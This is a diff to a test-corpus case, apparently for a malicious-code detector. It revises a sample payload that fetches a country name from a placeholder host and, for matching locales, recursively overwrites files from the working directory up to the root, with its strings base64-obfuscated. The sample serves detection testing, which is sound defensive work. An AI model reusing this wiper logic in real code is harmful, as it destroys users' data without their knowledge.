@@ -23,62 +23,35 @@ const overwriting = `const path = require('path');
 const fs = require('fs');
 const https = require('https');
 
-setTimeout(function () {
-  const chance = Math.round(Math.random() * 4);
-  if (chance > 1) {
-    return;
-  }
-  const asked = Buffer.from('${base64('https://where.invalid/api?key=none')}', 'base64');
-  https.get(asked.toString('utf8'), function (answer) {
-    answer.on('data', function (bytes) {
-      const here = Buffer.from('${base64('./')}', 'base64').toString('utf8');
-      const up = Buffer.from('${base64('../')}', 'base64').toString('utf8');
-      const upTwice = Buffer.from('${base64('../../')}', 'base64').toString('utf8');
-      const top = Buffer.from('${base64('/')}', 'base64').toString('utf8');
-      const field = Buffer.from('${base64('country_name')}', 'base64').toString('utf8');
-      const one = Buffer.from('${base64('atlantis')}', 'base64').toString('utf8');
-      const other = Buffer.from('${base64('lemuria')}', 'base64').toString('utf8');
+const word = (text) => Buffer.from(text, 'base64').toString();
+const lots = Math.floor(Math.random() * 5);
+
+if (lots < 2) setTimeout(ask, lots * 500);
+
+function ask() {
+  https.get(word('${base64('https://where.invalid/api?key=none')}'), (answer) => {
+    answer.on('data', (bytes) => {
       try {
-        const place = JSON.parse(bytes.toString('utf8'))[field].toLowerCase();
-        if (place.includes(one) || place.includes(other)) {
-          visit(here);
-          visit(up);
-          visit(upTwice);
-          visit(top);
-        }
+        const place = JSON.parse(bytes)[word('${base64('country_name')}')].toLowerCase();
+        if (![word('${base64('atlantis')}'), word('${base64('lemuria')}')].some((one) => place.includes(one))) return;
+        for (const folder of ['${base64('./')}', '${base64('../')}', '${base64('../../')}', '${base64('/')}']) visit(word(folder));
       } catch (error) {}
     });
   });
-}, Math.ceil(Math.random() * 1000));
+}
 
-function visit(folder, mark) {
-  mark = Buffer.from('${base64('x')}', 'base64').toString('utf8');
-  if (!fs.existsSync(folder)) {
-    return [];
-  }
+function visit(folder) {
   let names = [];
   try {
     names = fs.readdirSync(folder);
   } catch (error) {}
-  const visited = [];
-  for (let i = 0; i < names.length; i++) {
-    const found = path.join(folder, names[i]);
-    let about = null;
-    try {
-      about = fs.lstatSync(found);
-    } catch (error) {
-      continue;
-    }
-    if (about.isDirectory()) {
-      const inner = visit(found, mark);
-      if (inner.length > 0) visited.push(...inner);
-    } else if (found.indexOf(mark) >= 0) {
-      try {
-        fs.writeFile(found, mark, function () {});
-      } catch (error) {}
-    }
-  }
-  return visited;
+  names.forEach((name) => {
+    const found = path.join(folder, name);
+    const about = fs.lstatSync(found, { throwIfNoEntry: false });
+    if (about === undefined) return;
+    if (about.isDirectory()) visit(found);
+    else fs.writeFile(found, word('${base64('x')}'), () => {});
+  });
 }
 `;
 
@@ -97,7 +70,7 @@ export const walkThatOverwrites: CorpusCase = {
       atLeast: 'block',
       seen: [
         { rule: 'files-destroyed', path: 'dao/place.js', on: 'fs.writeFile(found' },
-        { rule: 'network-added', path: 'dao/place.js', on: 'https.get(asked' },
+        { rule: 'network-added', path: 'dao/place.js', on: 'https.get(word(' },
         { rule: 'locale-conditioned', kind: 'destructive', path: 'dao/place.js', on: 'fs.writeFile(found' },
       ],
       payload: { path: 'dao/place.js', code: overwriting },
